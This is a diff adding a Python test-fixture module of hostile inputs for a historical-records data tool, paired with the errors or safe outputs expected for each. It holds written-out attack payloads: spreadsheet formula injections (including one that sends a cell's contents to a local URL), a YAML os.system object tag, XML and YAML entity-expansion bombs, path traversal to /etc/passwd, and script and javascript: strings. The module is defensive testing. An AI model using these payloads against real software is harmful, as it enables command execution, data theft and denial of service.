@@ -1,0 +1,232 @@
+"""The hostile-input corpus: tables of input -> expected answer, one table per surface.
+
+Every row is one case. The test modules beside this file run them through the product's public
+interfaces (``lod import`` / the importers, record files + ``lod build``, HTTP through Flask's test
+client, the live werkzeug server and ``lod serve`` (gunicorn), the SPARQL endpoint, OAI-PMH, the
+HTML pages) and compare the answer with the expectation written here. docs/security.md counts them.
+
+Large inputs are generated at test time from a recipe (nothing big is committed).
+"""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+ROOT = Path(__file__).resolve().parents[2]
+PAGES = ROOT / "data" / "sources" / "pages"
+SEED_B = PAGES / "diary-soviet-ambassador-pf-yudin-memorandum-conversation-liu-shaoqi-30-october-1956.txt"
+SEED_A = PAGES / "journal-ambassador-p-f-yudin-record-conversation-liu-shaoqi-and-zhou-enlai-13-february.txt"
+
+
+@dataclass(frozen=True)
+class Err:
+    """Expected: a located RecordError (field, and a fragment of the message; line when given)."""
+
+    field: str
+    message: str
+    line: int | None = None
+
+
+@dataclass(frozen=True)
+class Ok:
+    """Expected: a record; ``checks`` maps a Record attribute (dotted) to its expected value."""
+
+    checks: dict[str, Any] = field(default_factory=dict)
+
+
+@dataclass(frozen=True)
+class Case:
+    id: str
+    input: Any
+    expect: Any
+    note: str = ""
+
+
+def _b() -> str:
+    return SEED_B.read_text(encoding="utf-8")
+
+
+def _a() -> str:
+    return SEED_A.read_text(encoding="utf-8")
+
+
+def _cut_in_citation_b() -> bytes:
+    t = _b()
+    return t[: t.index("AVPRF f. 0100") + 20].encode()
+
+
+def _cut_in_citation_a() -> bytes:
+    t = _a()
+    i = t.index("Document Information")
+    j = t.index("f.", i)
+    return t[: j + 6].encode()
+
+
+def _huge_page() -> bytes:
+    """A real page with its body repeated to 50 MB (generated at test time, never committed)."""
+    seed = _b().encode()
+    line = b"Liu Shaoqi said the Soviet advisors were useful and should stay for some years. " * 12 + b"\n"
+    reps = (50_000_000 - len(seed)) // len(line) + 1
+    return (seed + b"\n" + line * reps)[:50_000_000]
+
+
+def _billion_laughs_text() -> str:
+    ents = '<!ENTITY a "aaaaaaaaaa">' + "".join(
+        f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(9))
+    return f'<?xml version="1.0"?><!DOCTYPE lolz [{ents}]><lolz>&j;</lolz>'
+
+
+BILLION_LAUGHS_XML = _billion_laughs_text()
+
+
+# ----------------------------------------------------------------------------------- ingest: pages
+# input: a callable giving the page's bytes. The real seed page B is imported in the same run:
+# it must be created/unchanged whatever the hostile page does (nothing else is lost).
+PAGE_CASES: list[Case] = [
+    Case("empty", lambda: b"", Err("text", "empty file")),
+    Case("whitespace-only", lambda: b"  \n\n\t \r\n", Err("text", "empty file")),
+    Case("binary-nul", lambda: bytes(range(256)) * 8, Err("text", "binary data (NUL byte", line=1)),
+    Case("binary-png", lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200), Err("text", "binary data")),
+    Case("binary-controls", lambda: bytes(range(1, 9)) * 40 + b"\x0e\x0f" * 40, Err("text", "control characters")),
+    Case("utf16-with-bom", lambda: _b().encode("utf-16"), Err("text", "binary data")),
+    Case("latin1-mis-encoded", lambda: _b().replace("Liu Shaoqi", "Liú Shàoqí").encode("latin-1", "replace"),
+         Err("text", "not UTF-8", line=3)),
+    Case("cp1252-smart-quotes", lambda: _b().replace('"', "\u201c").encode("cp1252", "replace"), Err("text", "not UTF-8")),
+    Case("surrogate-bytes", lambda: _b().encode()[:200] + b"\xed\xa0\x80" + _b().encode()[200:],
+         Err("text", "not UTF-8")),
+    Case("overlong-utf8-slash", lambda: _b().encode()[:100] + b"\xc0\xaf" + _b().encode()[100:],
+         Err("text", "not UTF-8")),
+    Case("truncated-mid-citation-b", _cut_in_citation_b, Err("citation", "truncated")),
+    Case("truncated-after-citation-heading", lambda: _b()[: _b().index("Citation:") + 11].encode(),
+         Err("citation", "truncated")),
+    Case("truncated-mid-citation-a", _cut_in_citation_a, Err("citation", "")),
+    Case("date-line-only", lambda: b"November 22, 1956\n", Err("title", "missing title")),
+    Case("no-date", lambda: b"Diary of Soviet Ambassador P.F. Yudin\n\nCitation:\n", Err("date", "must start with its date")),
+    Case("impossible-date", lambda: _b().replace("November 22, 1956", "February 31, 1956", 1).encode(),
+         Err("date", "")),
+    Case("huge-50mb", _huge_page, Err("text", "larger than")),
+    Case("one-2mb-line", lambda: b"November 22, 1956 " + b"x" * 2_000_000, Err("date", "")),
+    Case("bom-and-crlf", lambda: b"\xef\xbb\xbf" + _b().replace("\n", "\r\n").encode(),
+         Ok({"key": "116814", "date": "1956-11-22"})),
+    Case("doctype-in-body", lambda: _b().replace("Liu Shaoqi discusses", BILLION_LAUGHS_XML + " Liu Shaoqi discusses",
+                                                   1).encode(),
+         Ok({"key": "116814"}), "XML in a page is text: kept verbatim, never parsed"),
+    Case("script-in-title", lambda: _b().replace("Diary of Soviet", "<script>alert(1)</script> Diary of Soviet",
+                                                   1).encode(),
+         Ok({"key": "116814"}), "HTML in a page is text; escaping is the renderer's job (see HTML cases)"),
+]
+
+
+# ----------------------------------------------------------------------------------- ingest: CSV cells
+# input: (column, cell value) replacing one cell of a real row (record 300641); expect as above.
+FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]
+CSV_CASES: list[Case] = [
+    Case("formula-hyperlink-title", ("title", FORMULAS[0]), Ok({"title": FORMULAS[0]}),
+         "kept verbatim as data; neutralised where we write CSV (see QUERY_CSV_CASES)"),
+    Case("formula-plus-summary", ("summary", FORMULAS[1]), Ok({"summary": FORMULAS[1]})),
+    Case("formula-minus-summary", ("summary", FORMULAS[2]), Ok({"summary": FORMULAS[2]})),
+    Case("formula-at-summary", ("summary", FORMULAS[3]), Ok({"summary": FORMULAS[3]})),
+    Case("formula-in-people", ("associated_people_orgs", json.dumps(["=1+1", "Liu, Shaoqi"])),
+         Ok({"people": ["=1+1", "Liu, Shaoqi"]})),
+    Case("newline-in-title", ("title", "Main Points of\nMeeting Between Sato and Chiang"),
+         Ok({"title": "Main Points of Meeting Between Sato and Chiang"}), "a title is one line"),
+    Case("newlines-in-summary", ("summary", "First line.\nSecond line.\r\nThird."),
+         Ok({"summary": "First line.\nSecond line.\nThird."})),
+    Case("newlines-in-body", ("text_body", "Secret\n\n\nCopy 19 of 50\r\nEnd"), Ok({"body": "Secret\n\n\nCopy 19 of 50\nEnd"})),
+    Case("ten-thousand-people", ("associated_people_orgs", json.dumps([f"Person Number{i} Testov" for i in range(10_000)])),
+         Ok({"len(people)": 10_000, "people[9999]": "Person Number9999 Testov"})),
+    Case("people-not-json", ("associated_people_orgs", "Liu, Shaoqi; Mao Zedong"),
+         Err("associated_people_orgs", "invalid JSON array")),
+    Case("authors-json-object", ("authors", '{"a": 1}'), Err("authors", "expected a JSON array of text")),
+    Case("authors-json-numbers", ("authors", "[1, 2, 3]"), Err("authors", "expected a JSON array of text")),
+    Case("authors-nested-arrays", ("authors", '[["Liu Shaoqi"]]'), Err("authors", "expected a JSON array of text")),
+    Case("authors-deeply-nested", ("authors", "[" * 100_000 + "]" * 100_000), Err("authors", "")),
+    Case("places-infinite-number", ("associated_places", "[1e999999]"), Err("associated_places", "")),
+    Case("impossible-date", ("original_publication_date", "31 February 1954"),
+         Err("original_publication_date", "impossible date")),
+    Case("garbage-date", ("original_publication_date", "sometime in the sixties"), Err("original_publication_date", "")),
+    Case("record-id-traversal", ("record_id", "../../etc/passwd"), Err("record_id", "not a plain identifier")),
+    Case("record-id-newline", ("record_id", "3006\n41"), Err("record_id", "not a plain identifier")),
+    Case("record-id-script", ("record_id", "<script>"), Err("record_id", "not a plain identifier")),
+    Case("document-url-javascript", ("document_url", "javascript:alert(1)"), Err("document_url", "not an http(s) URL"),
+         "with record_id emptied"),
+    Case("bidi-override-title", ("title", "\u202egnp.exe Main Points of the Meeting"),
+         Ok({"title": "\u202egnp.exe Main Points of the Meeting"})),
+    Case("huge-cell-3mb", ("text_body", "Sato said. " * 300_000), Ok({"len(body)": len("Sato said. " * 300_000) - 1})),
+]
+
+# ----------------------------------------------------------------------------------- ingest: whole CSV files
+CSV_FILE_CASES: list[Case] = [
+    Case("nul-in-a-cell", "nul", Err("", "binary data (NUL byte")),
+    Case("unterminated-quote", "unterminated", Err("", "")),
+    Case("header-only", "header", Ok({"rows": 0})),
+    Case("formula-header", "formula-header", Err("title", "missing required column")),
+]
+
+
+# ----------------------------------------------------------------------------------- ingest: record files
+# input: the YAML text of data/records/<id>.yaml (a copy of a real record with one thing wrong)
+REAL = "key: '300641'\ntitle: Main Points of Meeting Between Prime Minister Sato and Chiang Ching-kuo\ndate: '1967-11-24'\n"
+RECORD_FILE_CASES: list[Case] = [
+    Case("title-is-a-list", "key: '900001'\ntitle: [a, b]\n", Err("title", "expected text")),
+    Case("title-is-a-bool", "key: '900002'\ntitle: true\n", Err("title", "expected text, got bool")),
+    Case("title-is-a-float", "key: '900003'\ntitle: 12.5\n", Err("title", "expected text, got float")),
+    Case("key-is-a-mapping", "key: {a: 1}\ntitle: T t t\n", Err("key", "missing 'key'")),
+    Case("key-missing", "title: Some title here\n", Err("key", "missing 'key'")),
+    Case("authors-is-a-string", "key: '900004'\ntitle: Some title here\nauthors: Liu Shaoqi\n",
+         Err("authors", "expected a list")),
+    Case("authors-null-item", "key: '900005'\ntitle: Some title here\nauthors: [null]\n", Err("authors[0]", "expected text")),
+    Case("authors-nested-list", "key: '900006'\ntitle: Some title here\nauthors: [[Liu]]\n", Err("authors[0]", "expected text")),
+    Case("withdrawn-is-yes-string", "key: '900007'\ntitle: Some title here\nwithdrawn: 'yes'\n",
+         Err("withdrawn", "expected true or false")),
+    Case("conversation-is-a-list", "key: '900008'\ntitle: Some title here\nconversation: [x]\n",
+         Err("conversation", "expected a mapping")),
+    Case("citation-fond-float", "key: '900009'\ntitle: Some title here\ncitation: {fond: 12.5}\n",
+         Err("citation.fond", "expected text, got float")),
+    Case("participants-is-a-string", "key: '900010'\ntitle: Some title here\nconversation: {participants: Liu}\n",
+         Err("conversation.participants", "expected a list")),
+    Case("unknown-field", "key: '900011'\ntitle: Some title here\nsecret_admin: true\n", Err("secret_admin", "unknown field")),
+    Case("top-level-list", "- key: '900012'\n", Err("", "must be a mapping")),
+    Case("top-level-scalar", "just a string\n", Err("", "must be a mapping")),
+    Case("python-object-tag", "key: '900013'\ntitle: !!python/object/apply:os.system ['touch /tmp/lod-pwned']\n",
+         Err("", "not valid YAML")),
+    Case("yaml-billion-laughs", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
+         "c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]\n"
+         "e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]\nf: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]\n"
+         "g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]\nh: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]\n"
+         "key: '900014'\ntitle: Some title here\nauthors: *h\n", Err("", ""), "aliases are references: bounded time"),
+    Case("impossible-date", "key: '900015'\ntitle: Some title here\ndate: '1954-02-31'\n", Err("date", "")),
+    Case("unquoted-impossible-date", "key: '900016'\ntitle: Some title here\ndate: 1954-02-31\n", Err("date", "")),
+    Case("missing-title", "key: '900017'\ntitle: ''\n", Err("title", "missing title")),
+    Case("key-traversal", "key: ../../etc/passwd\ntitle: Some title here\n", Err("key", "")),
+    Case("key-with-slash", "key: a/b\ntitle: Some title here\n", Err("key", "")),
+    Case("key-dot-dot", "key: '..'\ntitle: Some title here\n", Err("key", "")),
+    Case("not-utf8", "key: '900018'\ntitle: Liú Shàoqí title\n".encode("latin-1"), Err("", "not UTF-8")),
+    Case("tab-indentation", "key: '900019'\ntitle: x\n\tauthors: [a]\n", Err("", "not valid YAML")),
+    Case("int-date-is-text", "key: '900020'\ntitle: Some title here\ndate: 1956\n", Ok({"date": "1956"})),
+    Case("huge-int-title", f"key: '900021'\ntitle: {10 ** 60}\n", Ok({"title": str(10 ** 60)})),
+]
+
+
+# ----------------------------------------------------------------------------------- lod query --format csv
+# A literal in the store -> the cell `lod query --format csv|tsv` writes (spreadsheet formula neutralised).
+QUERY_CSV_CASES: list[Case] = [
+    Case("equals", "=1+1", "'=1+1"),
+    Case("plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+    Case("minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
+    Case("at", "@SUM(1+1)", "'@SUM(1+1)"),
+    Case("tab", "\t=1+1", "'\t=1+1"),
+    Case("hyperlink", '=HYPERLINK("http://127.0.0.1:9/","x")', '\'=HYPERLINK("http://127.0.0.1:9/","x")'),
+    Case("negative-number-kept", "-12.5", "-12.5"),
+    Case("plain-text-kept", "Liu Shaoqi", "Liu Shaoqi"),
+]
+
+
+def page_bytes(case: Case) -> bytes:
+    make: Callable[[], bytes] = case.input
+    return make()
